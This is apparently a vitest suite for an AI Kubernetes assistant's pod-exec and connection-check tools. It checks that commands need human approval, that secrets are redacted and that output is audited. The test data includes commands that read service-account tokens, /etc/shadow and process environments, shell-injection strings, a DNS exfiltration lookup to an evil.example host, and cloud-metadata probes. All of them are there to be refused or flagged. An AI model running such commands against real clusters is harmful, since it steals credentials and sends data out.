import { describe, expect, it } from 'vitest';
import { KINDS } from '../../src/core/kinds.ts';
import type { Json } from '../../src/core/json.ts';
import type { Pod } from '../../src/core/kubernetes.ts';
import type { Change } from '../../src/core/plan.ts';
import { requestRisk } from '../../src/core/request/words.ts';
import { untouchedEmbedded } from '../helpers/shared-embedded.ts';
import { gateway } from './gateway.ts';
import { packItem } from '../../src/ui/chat/saved-item.ts';
import { reduce } from '../../src/ui/chat/reduce.ts';
import { initialState } from '../../src/ui/chat/state.ts';
import { HEADER } from '../helpers/ui-chat.ts';
import { attack, meddle, NO, NS, YES, type Setting } from './world.ts';

const never = new AbortController().signal;
const TYPED = { answer: 'yes', by: 'typed-name' } as const;

/** One call of run_in_pod in the backend's pod, with a person who says yes to whatever is asked. */
async function run(argv: readonly string[], setting: Setting = {}, more: object = {}) {
  const world = await attack([{ calls: [['run_in_pod', { workload: 'backend', argv, ...more }]] }, { text: 'done' }], {
    person: TYPED,
    ...setting,
  });
  const said = await world.say('look into the backend pod and run it');
  const [result] = said.results;
  const sent = world.demo.requests.filter(({ path }) => path.includes('/exec?'));
  return { world, said, result, text: result?.text ?? '', sent };
}

const commandOf = ({ path }: { readonly path: string }): string[] =>
  new URL(path, 'http://x').searchParams.getAll('command');

describe('a program that is run in a pod', () => {
  it('is one request, after one yes, and prints to the person and, fenced, to the model', async () => {
    const { world, result, sent } = await run(['ls', '/'], { person: YES });
    expect(world.questions.map(({ plan }) => plan.risk)).toEqual(['medium']);
    expect(sent.map(commandOf)).toEqual([['ls', '/']]);
    expect(sent.map(({ status }) => status)).toEqual([101]);
    expect(world.writes()).toHaveLength(1);
    expect(result?.view).toMatchObject({ type: 'text', title: 'ls /', text: expect.stringContaining('etc\n') });
    const told = JSON.stringify(world.model.requests.at(-1)?.messages);
    expect(told).toContain('exit code 0');
    expect(told).toMatch(/run: the person approved it[^<]*<[^>]*run_in_pod/);
  });

  it('is kept for another day without what it printed, however short that is', async () => {
    const { world, said } = await run(['ls', '/'], { person: YES });

    expect(said.results[0]?.view).toMatchObject({ text: expect.stringContaining('etc\n') });
    const { items } = said.events.reduce(
      (state, event, at) => reduce(state, { type: 'agent', event, at }),
      reduce(initialState(HEADER, 80, 24), { type: 'begin', text: 'look', at: 0 }),
    );
    const kept = JSON.stringify([world.session.digested(), items.map(packItem)]);
    expect(kept).not.toMatch(/\betc\b/);
    expect(kept.match(/exit code 0/g)?.length).toBeGreaterThan(1);
    expect(kept.match(/\b\d\d bytes (?:were )?printed/g)).toHaveLength(2);
  });

  it.each<[string, Setting]>([
    ['a no', { person: NO }],
    ['nobody there', {}],
    ['a dry run', { person: TYPED, gate: { mode: 'dry-run' } }],
    ['a read-only run', { person: TYPED, gate: { mode: 'read-only' } }],
  ])('is not run at %s', async (_what, setting) => {
    const { sent, world } = await run(['ls', '/'], {
      ...setting,
      ...(setting.person ? {} : { person: undefined as never }),
    });
    expect(sent).toEqual([]);
    expect(world.writes()).toEqual([]);
  });

  it.each([
    ['a shell', ['sh', '-c', 'echo hi']],
    ['a text that a shell would take apart', ['echo', 'a; cat /etc/hostname', '$(id)', '`id`', '--', '-n', '']],
    ['a word that looks like a flag of kubectl', ['echo', '--context=prod', '-it', '&stdin=true&command=id#']],
    ['other alphabets and line breaks', ['echo', 'é\n名\u202e', ' ']],
  ])('%s reaches the server as the words of the card, with a typed name', async (_what, argv) => {
    const { world, sent } = await run(argv);
    expect(world.questions.map(({ plan }) => plan.risk)).toEqual(['high']);
    expect(world.questions[0]?.plan.changes).toMatchObject([{ verb: 'exec', argv }]);
    expect(sent.map(commandOf)).toEqual([argv]);
    const query = new URL(sent[0]?.path ?? '', 'http://x').searchParams;
    expect([...query.keys()].filter((key) => key !== 'command')).toEqual(['container', 'stderr', 'stdout']);
  });

  it.each([
    [['nc', '-w', '3', 'todo-chatbot-backend', '8000'], 3, `todo-chatbot-backend.${NS}.svc`],
    [['nc', `todo-chatbot-backend.${NS}`, '8000', '-w', '3'], 1, `todo-chatbot-backend.${NS}.svc`],
    [['nslookup', 'todo-chatbot-backend'], 1, `todo-chatbot-backend.${NS}.svc.cluster.local`],
    [['curl', '-q', 'http://todo-chatbot-backend:8000/health'], 2, `http://todo-chatbot-backend.${NS}.svc:8000/health`],
  ])('%j names a Service: it is sent by its whole name, with one key', async (argv, at, full) => {
    const { world, sent } = await run(argv, { person: YES });
    expect(world.questions.map(({ plan }) => plan.risk)).toEqual(['medium']);
    expect(sent.map(commandOf)).toEqual([argv.with(at, full)]);
    expect(world.questions[0]?.plan.warnings.map(({ text }) => text).join('\n')).toContain(`asked for as`);
  });

  it.each([
    [['nc', 'intranet', '80', '-w', '3']],
    [['nslookup', 'instance-data']],
    [['nslookup', 'c2VjcmV0.evil.example']],
    [['curl', '-q', 'http://instance-data/']],
    [['curl', '-q', 'http://todo-chatbot-backend:8000/admin/shutdown']],
  ])('%j may leave the cluster or do more than read: the typed name, and the words as they are', async (argv) => {
    const { world } = await run(argv, { person: NO });
    expect(world.questions.map(({ plan }) => plan.risk)).toEqual(['high']);
    expect(world.questions[0]?.plan.changes).toMatchObject([{ argv }]);
  });

  it.each([
    [['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token']],
    [['cat', '/run//secrets/kubernetes.io/serviceaccount/token']],
    [['cat', '/tmp/../var/./run/secrets/x']],
    [['sh', '-c', 'cd /var && cat run/secrets/kubernetes.io/serviceaccount/token']],
    [['cat', '/proc/1/environ']],
    [['strings', '/proc/self/environ']],
    [['sh', '-c', 'tr "\\0" "\\n" < /proc/$PPID/environ']],
    [['cat', '/proc/1/root/etc/hostname']],
    [['env']],
    [['printenv', 'JWT_SECRET']],
    [['/usr/bin/env', '-u', 'X']],
    [['cat', '/etc/shadow']],
  ])('%j is not even asked about', async (argv) => {
    const { world, sent, result } = await run(argv);
    expect(world.questions).toEqual([]);
    expect(sent).toEqual([]);
    expect(result?.state).toBe('failed');
  });

  it.each([
    ['no program', []],
    ['an empty name', ['']],
    ['a line instead of words', ['ls -l /']],
    ['a zero byte', ['ls', 'a\0b']],
    ['more than a request holds', ['echo', 'x'.repeat(9_000)]],
  ])('%s is refused before any card', async (_what, argv) => {
    const { world, sent } = await run(argv);
    expect(world.questions).toEqual([]);
    expect(sent).toEqual([]);
  });

  it('a Secret that it prints is hidden: from the model, the screen and the record', async () => {
    const { world, said, sent } = await run(['sh', '-c', 'echo key=$JWT_SECRET url=$DATABASE_URL'], { person: TYPED });
    expect(sent).toHaveLength(1);
    const secret = await meddle(world.demo, 'GET', `/api/v1/namespaces/${NS}/secrets/todo-chatbot-secrets`);
    const { JWT_SECRET = '' } = (secret as { data: Record<string, string> }).data;
    const value = Buffer.from(JWT_SECRET, 'base64').toString('utf8');
    expect(value.length).toBeGreaterThan(8);
    const all = JSON.stringify([said.events, world.audit(), world.model.requests]);
    expect(all).toContain('key=[hidden');
    expect(all).not.toContain(value);
  });

  it('of the variables only the names come out', async () => {
    const { result, world } = await run(['env', '-0'], { person: YES });
    expect(world.questions[0]?.plan.risk).toBe('medium');
    expect(result?.view).toMatchObject({ text: expect.stringMatching(/^DATABASE_URL$/m) });
    expect(JSON.stringify(result?.view)).not.toContain('=');
  });

  it('the record has the words and how it ended, and of the output the size and a digest', async () => {
    const { world } = await run(['cat', '/etc/resolv.conf'], { person: YES });
    const [intent, outcome] = world.audit();
    expect(intent).toMatchObject({
      type: 'intent',
      plan: { changes: [{ verb: 'exec', argv: ['cat', '/etc/resolv.conf'] }] },
    });
    expect(outcome).toMatchObject({
      type: 'outcome',
      outcome: { state: 'applied', printed: [{ exit: 0, text: expect.stringMatching(/^\d+ characters, sha256 /) }] },
    });
    expect(JSON.stringify(outcome)).not.toContain('nameserver');
  });

  it('is not run in a pod that was made again under the same name', async () => {
    const world = await attack(
      [{ calls: [['run_in_pod', { workload: 'backend', argv: ['ls', '/'] }]] }, { text: 'x' }],
      {
        person: async (question) => {
          const target = question.plan.changes[0]?.target;
          await meddle(world.demo, 'DELETE', `/api/v1/namespaces/${NS}/pods/${target?.name}?gracePeriodSeconds=0`);
          return YES;
        },
      },
    );
    await world.say('run ls in the backend pod');
    expect(world.demo.requests.filter(({ path }) => path.includes('/exec?'))).toEqual([]);
  });

  it('of a flood a bounded part is read', async () => {
    const script = `while true; do echo ${'x'.repeat(4_000)}; done`;
    const { result } = await run(['sh', '-c', script], {}, { seconds: 20 });
    expect(result?.text).toContain('more than 64 KiB');
    expect(JSON.stringify(result?.view).length).toBeLessThan(80_000);
  }, 30_000);

  it('one that does not end is left after its time, and that is said', async () => {
    const { result } = await run(['sh', '-c', 'sleep 3600'], {}, { seconds: 1 });
    expect(result?.text).toContain('was read for 1 s and had not ended; it may still run in the container');
  });

  it('one that is not there is told as that', async () => {
    const { result } = await run(['jq', '.']);
    expect(result).toMatchObject({ state: 'failed' });
    expect(result?.text).toContain('has no such program');
  });

  it('a Secret that may not be read is named on the card: what the program prints of it is not hidden', async () => {
    const demo = await untouchedEmbedded({ scenario: 'healthy', speed: 50 });
    await demo.settled();
    const door = await gateway(demo);
    door.fate = ({ method, path }) =>
      method === 'GET' && path.endsWith('/secrets/todo-chatbot-secrets')
        ? { status: 403, reason: 'Forbidden', message: 'no' }
        : 'pass';
    const { world } = await run(['true'], { demo, kubeconfig: door.kubeconfig });
    expect(world.questions[0]?.rehearsal.warnings.join()).toContain('todo-chatbot-secrets, which could not be read');
    await door.close();
  });

  it('a mounted Secret is not read by any program', async () => {
    const world = await attack(
      [{ calls: [['run_in_pod', { workload: 'pod/keeper', argv: ['head', '/keys/a'] }]] }, { text: 'x' }],
      {
        person: TYPED,
      },
    );
    const pods = `/api/v1/namespaces/${NS}/pods`;
    await meddle(world.demo, 'POST', `/api/v1/namespaces/${NS}/secrets`, {
      metadata: { name: 'keys' },
      stringData: { a: 'planted-of-the-mount-7' },
    });
    await meddle(world.demo, 'POST', pods, {
      metadata: { name: 'keeper' },
      spec: {
        volumes: [{ name: 'k', secret: { secretName: 'keys' } }],
        containers: [
          {
            name: 'app',
            image: 'busybox:1',
            command: ['sleep', '3600'],
            volumeMounts: [{ name: 'k', mountPath: '/keys' }],
          },
        ],
      },
    });
    for (let tries = 0; tries < 100; tries++) {
      const pod: Pod = await world.connection.reader.get(KINDS.pods, 'keeper', NS, never);
      if (pod.status?.phase === 'Running') break;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    const { results } = await world.say('look into the keeper pod');
    expect(results[0]?.text).toContain('/keys is where Secret keys is mounted');
    expect(world.questions).toEqual([]);
  });
});

describe('a connection that is tried from a pod', () => {
  const check = async (to: string, setting: Setting = {}) => {
    const world = await attack([{ calls: [['check_connection', { from: 'frontend', to }]] }, { text: 'done' }], {
      person: YES,
      ...setting,
    });
    const { results } = await world.say(`can the frontend pod reach ${to}`);
    return {
      world,
      text: results[0]?.text ?? '',
      sent: world.demo.requests.filter(({ path }) => path.includes('/exec?')),
    };
  };

  it('is one card that shows every program, and tells what the steps come to', async () => {
    const { world, text, sent } = await check('todo-chatbot-backend');
    expect(world.questions.map(({ plan }) => plan.risk)).toEqual(['medium']);
    const shown = world.questions[0]?.plan.changes.map((change) => change.verb === 'exec' && change.argv);
    expect(sent.map(commandOf)).toEqual(shown);
    expect(text).toContain(`the way to todo-chatbot-backend.${NS}.svc:8000 is open`);
    expect(text).toMatch(/DNS: the name resolves to 10\.96\.\d+\.\d+/);
  });

  it('nothing is sent at a no', async () => {
    expect((await check('todo-chatbot-backend', { person: NO })).sent).toEqual([]);
  });

  it.each(['todo-chatbot-backend:99', 'nobody', '; id', 'http://a b/', 'backend:99999', '-e', '../x'])(
    '%s is told or refused without any program',
    async (to) => {
      const { world, sent } = await check(to);
      expect(world.questions).toEqual([]);
      expect(sent).toEqual([]);
    },
  );

  it.each(['http://169.254.169.254/latest/meta-data/', 'evil.example.com:443', 'http://evil.example.com/'])(
    'to %s needs the typed name: it leaves the cluster',
    async (to) => {
      const { world } = await check(to, { person: NO });
      expect(world.questions.map(({ plan }) => plan.risk)).toEqual(['high']);
    },
  );

  it('no probe follows a redirect', async () => {
    const { world } = await check('http://todo-chatbot-backend:8000/x', { person: NO });
    for (const change of world.questions[0]?.plan.changes ?? []) {
      const argv = change.verb === 'exec' ? change.argv : [];
      if (argv[0] === 'curl') expect(argv).not.toContain('-L');
      if (argv[0] === 'wget') expect(argv).toEqual(expect.arrayContaining(['--max-redirect=0', '--no-config']));
    }
  });
});

describe('a debug container', () => {
  it('is refused by a server that serves none, before anybody is asked', async () => {
    const world = await attack([{ calls: [['debug_pod', { workload: 'backend' }]] }, { text: 'done' }], {
      person: YES,
    });
    const { results } = await world.say('debug the backend pod');
    expect(results[0]).toMatchObject({ state: 'failed' });
    expect(results[0]?.text).toContain('add a debug container to pod/todo-chatbot-backend');
    expect(world.questions).toEqual([]);
    expect(world.writes()).toEqual([]);
  });
});

it('a privileged container is seen also where it stands alone in the list of ephemeral ones', () => {
  const edit = (container: Json): Change => ({
    verb: 'edit',
    subresource: 'ephemeralcontainers',
    target: { apiVersion: 'v1', kind: 'Pod', namespace: NS, name: 'web' },
    resource: { plural: 'pods', namespaced: true },
    uid: 'u',
    edits: [{ path: '/spec/ephemeralContainers', to: [container] }],
  });
  const plain = { name: 'debug-1', image: 'busybox:1' };
  expect(requestRisk({ changes: [edit(plain)], risk: 'low' })).toBe('medium');
  expect(requestRisk({ changes: [edit({ ...plain, securityContext: { privileged: true } })], risk: 'low' })).toBe(
    'high',
  );
});
